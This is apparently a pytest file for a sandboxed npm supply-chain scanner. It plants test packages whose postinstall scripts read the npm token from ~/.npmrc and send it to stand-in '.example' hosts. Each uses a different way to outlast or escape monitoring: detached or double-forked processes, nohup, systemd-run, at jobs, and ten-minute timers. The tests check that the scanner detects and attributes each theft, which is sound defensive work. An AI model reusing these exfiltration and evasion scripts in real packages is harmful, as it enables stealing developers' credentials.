"""Time is no hiding place: what starts as its script ends, and what waits for ten minutes, is seen and blamed.

One scan for all of it: each package does one thing in its own way, and sends the npm token to a host of its own.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.support import requires
from tests.support.hunter import project_with, scan_json

_SEND = "curl -s --max-time 10 --data-binary @$HOME/.npmrc http://{name}.example/"
_NODE_SENDS = (
    "require('http').request({host: '{name}.example', method: 'POST'}, r => r.resume())"
    ".end(require('fs').readFileSync(process.env.HOME + '/.npmrc'))"
)
_PYTHON_SENDS = (
    "import os, urllib.request\n"
    "def send():\n"
    "    data = open(os.environ['HOME'] + '/.npmrc', 'rb').read()\n"
    "    urllib.request.urlopen('http://{name}.example/', data)\n"
)

# name -> the file that its postinstall runs, and what runs it
AT_EXIT = {
    "onexit": (
        "node",
        "process.on('exit', () => require('child_process').spawn('sh', ['-c', `{SEND}`], {DETACHED}).unref())",
    ),
    "atexit": (
        "python3",
        "{PYTHON}import atexit\n@atexit.register\ndef late():\n    if os.fork() == 0: os.setsid(); send()\n",
    ),
    "doublefork": (
        "python3",
        "{PYTHON}if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: send()\n    os._exit(0)\n",
    ),
    "setsids": ("sh", "setsid sh -c '{SEND}' >/dev/null 2>&1 &\n"),
    "nohups": ("sh", "nohup sh -c 'sleep 1; {SEND}' >/dev/null 2>&1 &\n"),
    "disowns": ("bash", "(sleep 1; {SEND}) >/dev/null 2>&1 & disown\n"),
    "unit": ("sh", "systemd-run --user sh -c '{SEND}'\n"),
    "atnow": ("sh", "echo '{SEND}' | at now\n"),
}
_LOOP = "i=0; while [ $i -lt 600 ]; do sleep 1; i=$((i+1)); done"
IN_TEN_MINUTES = {
    "sleeps": ("sh", "(sleep 600; {SEND}) >/dev/null 2>&1 &\n"),
    "loops": ("sh", f"({_LOOP}; {{SEND}}) >/dev/null 2>&1 &\n"),
    "cleanenv": (
        "sh",
        "env -i HOME=$HOME PATH=$PATH setsid sh -c 'env -i /bin/sleep 600; {SEND}' >/dev/null 2>&1 &\n",
    ),
    "settimeout": (
        "node",
        "const code = `setTimeout(() => {NODE}, 600000)`\n"
        "require('child_process').spawn(process.execPath, ['-e', code], {DETACHED}).unref()",
    ),
    "limits": (
        "node",
        "const code = `{NODE}`, thief = `require('child_process').spawnSync(process.execPath, ['-e', "
        "${{JSON.stringify(code)}}], {{timeout: 30000}})`\n"
        "require('child_process').spawn('sh', ['-c', 'sleep 600; exec node -e \"$0\"', thief], {DETACHED}).unref()",
    ),
    "gives": (
        "sh",
        "(sleep 600; timeout 20 python3 -c 'sum(range(3000000))' && timeout 20 {SEND}) >/dev/null 2>&1 &\n",
    ),
    "pytimer": (
        "python3",
        "{PYTHON}import threading\nif os.fork() == 0:\n    os.setsid()\n    threading.Timer(600, send).start()\n",
    ),
    "event": (
        "python3",
        "{PYTHON}import threading\nif os.fork() == 0:\n    threading.Event().wait(600)\n    send()\n",
    ),
    "alarms": ("perl", "exit if fork; $SIG{ALRM} = sub { system(q({SEND})) }; alarm 600; sleep 4000;\n"),
    "atlater": ("sh", "echo '{SEND}' | at now + 10 minutes\n"),
    "unitlater": ("sh", "systemd-run --user --on-active=10min sh -c '{SEND}'\n"),
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    requires.needs_runc()
    requires.needs_btf()
    ways = {**AT_EXIT, **IN_TEN_MINUTES}
    scripts = {name: {"postinstall": f"{program} s >/dev/null 2>&1"} for name, (program, _) in ways.items()}
    project = project_with(tmp_path_factory.mktemp("time") / "app", **scripts, onload={}, quiet={})
    for name, (_, text) in ways.items():
        (project / f"deps/{name}/s").write_text(_filled(text, name))
    (project / "deps/onload/index.js").write_text(f"setTimeout(() => {_filled('{NODE}', 'onload')}, 600000)")
    return scan_json(project, "--hurry", "--settle", "3", codes=(1,), timeout=600)


def _filled(text: str, name: str) -> str:
    parts = {"SEND": _SEND, "NODE": _NODE_SENDS, "PYTHON": _PYTHON_SENDS}
    parts = {key: part.replace("{name}", name) for key, part in parts.items()}
    for key, part in parts.items():
        text = text.replace(f"{{{key}}}", part)
    return (
        text.replace("{DETACHED}", "{detached: true, stdio: 'ignore'}").replace("{{", "{").replace("}}", "}")
    )


def thieves(report: dict[str, Any]) -> set[str]:
    """Names of the packages whose theft was proven, and that their own host was named for."""
    found = set()
    for finding in report["findings"]:
        if finding["kind"] == "exfiltration":
            name = finding["blame"]["package"].removeprefix("pkg:npm/").partition("@")[0]
            assert f"{name}.example" in finding["title"], "blamed for what another sent"
            found.add(name)
    return found


def test_what_starts_as_its_script_ends_is_seen_and_blamed(report: dict[str, Any]) -> None:
    assert set(AT_EXIT) - thieves(report) == set()


def test_what_waits_ten_minutes_is_proven_in_hurried_time(report: dict[str, Any]) -> None:
    assert {*IN_TEN_MINUTES, "onload"} - thieves(report) == set()


def test_nobody_else_is_accused_and_nothing_is_missing(report: dict[str, Any]) -> None:
    assert "pkg:npm/quiet@1.0.0" not in {(f["blame"] or {}).get("package") for f in report["findings"]}
    late = [f for f in report["findings"] if f["kind"] == "exfiltration" and "sleeps" in f["title"]]
    assert any("60 times faster" in line for line in late[0]["explain"])


def test_what_was_left_is_told_with_what_it_waited_for(report: dict[str, Any]) -> None:
    left = {f["blame"]["package"]: f for f in report["findings"] if f["kind"] == "left_running"}
    told = left["pkg:npm/settimeout@1.0.0"]["evidence"][0]
    assert told["what"].startswith("node (pid ")
    assert "of settimeout@1.0.0 was left waiting for a timer of 10 min" in told["what"]
    assert any(wait["for"] == "timer" and 500 < wait["seconds"] <= 600 for wait in told["data"]["waits"])
    shell = left["pkg:npm/sleeps@1.0.0"]["evidence"]
    assert any("a timer of 10 min" in one["what"] for one in shell)
